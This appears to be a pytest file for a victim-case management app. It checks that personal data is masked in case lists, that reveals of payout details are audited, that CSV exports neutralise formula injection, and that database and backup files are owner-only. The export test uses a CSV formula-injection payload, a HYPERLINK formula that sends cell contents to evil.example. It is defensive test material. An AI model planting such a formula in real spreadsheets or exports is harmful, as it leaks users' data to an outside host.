"""Personal data: masked in lists, every reveal recorded, exports neutralise formulas,
and the database file and its backups are readable by their owner only."""

from __future__ import annotations

import csv
import dataclasses
import os
import shutil
import sqlite3
import stat
from pathlib import Path

import pytest
from sqlalchemy import select

from app.domain.states import Status
from app.services import audit_log, cases, intake, victims
from app.services.case_search import CaseQuery, list_cases
from app.services.cases import MoveRequest
from app.services.payout_details import set_payout_details
from app.storage import migrate
from app.storage.db import Database
from app.storage.models import AuditEvent
from tests.conftest import step_up_code
from tests.services.helpers import BANK, incident, victim

DATA = Path(__file__).parents[1] / "storage" / "data"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_case_list_shows_phone_and_account_masked(ctx, staff):
    case = intake.take_phone_intake(ctx, staff["op1"], victim(phone="090-1234-5678"), incident())
    set_payout_details(ctx, staff["op1"], case.id, BANK)
    row = list_cases(ctx, CaseQuery())[0]
    assert row.phone_masked == "*******5678"
    assert row.account_masked == "****567"
    shown = " ".join(str(v) for v in dataclasses.astuple(row))
    assert "09012345678" not in shown and "1234567" not in shown


def test_revealing_payout_details_is_recorded(ctx, staff):
    case = intake.take_phone_intake(ctx, staff["op1"], victim(), incident())
    set_payout_details(ctx, staff["op1"], case.id, BANK)
    details = victims.reveal_payout(ctx, staff["op2"], case.id)
    assert details.account_number == "1234567"
    with ctx.db.read() as session:
        events = session.execute(select(AuditEvent.action, AuditEvent.actor_login).where(
            AuditEvent.case_id == case.id, AuditEvent.action == "payout.reveal")).all()
    assert events == [("payout.reveal", "op2")]


def test_audit_export_neutralises_formula_injection(ctx, staff, tmp_path):
    case = intake.take_phone_intake(ctx, staff["op1"], victim(name=EVIL), incident())
    reasons = [EVIL, "+SUM(1,2)", "-1+2", "@cmd", "\tTAB", "\rCR"]
    for reason in reasons:
        cases.move_case(ctx, staff["op1"], case.id, MoveRequest(Status.ON_HOLD, reason=reason))
        cases.move_case(ctx, staff["op1"], case.id, MoveRequest(Status.RECEIVED))
    out = tmp_path / "audit.csv"
    written = audit_log.export_events(ctx, staff["sv1"], out,
                                      audit_log.AuditFilter(case_number=case.case_number),
                                      second_factor=step_up_code(ctx, staff["sv1"]))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert len(rows) == written + 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
    held = [row[9] for row in rows[1:] if row[3] == "case.hold"]
    assert held == ["'" + r for r in reasons]
    # The export itself is recorded, with who made it.
    with ctx.db.read() as session:
        exported = session.execute(select(AuditEvent.actor_login).where(
            AuditEvent.action == "audit.export")).scalars().all()
    assert exported == ["sv1"]


@pytest.fixture
def open_umask():
    """The most permissive umask: the files must still come out owner-only."""
    old = os.umask(0)
    yield
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_new_database_and_its_wal_files_are_owner_only(tmp_path, open_umask):
    path = tmp_path / "new.sqlite3"
    db = Database(str(path))
    migrate.ensure_current(db)
    with db.write() as session:  # a write leaves the -wal and -shm files beside it
        session.execute(select(1))
    companions = [Path(f"{path}-wal"), Path(f"{path}-shm")]
    assert all(p.exists() for p in companions)
    assert [mode(p) for p in (path, *companions)] == [0o600, 0o600, 0o600]
    db.dispose()


@pytest.mark.parametrize("release", sorted(p.name for p in DATA.glob("schema_*.sqlite3")))
def test_backup_before_upgrade_is_owner_only(tmp_path, open_umask, release):
    path = tmp_path / "old.sqlite3"
    shutil.copy(DATA / release, path)
    os.chmod(path, 0o644)  # copied from elsewhere with loose rights
    db = Database(str(path))
    result = migrate.upgrade(db)
    db.dispose()
    assert result.backup is not None and result.backup.exists()
    assert mode(result.backup) == 0o600
    assert mode(path) == 0o600
    with sqlite3.connect(result.backup) as conn:
        assert conn.execute("SELECT count(*) FROM victim").fetchone()[0] >= 0
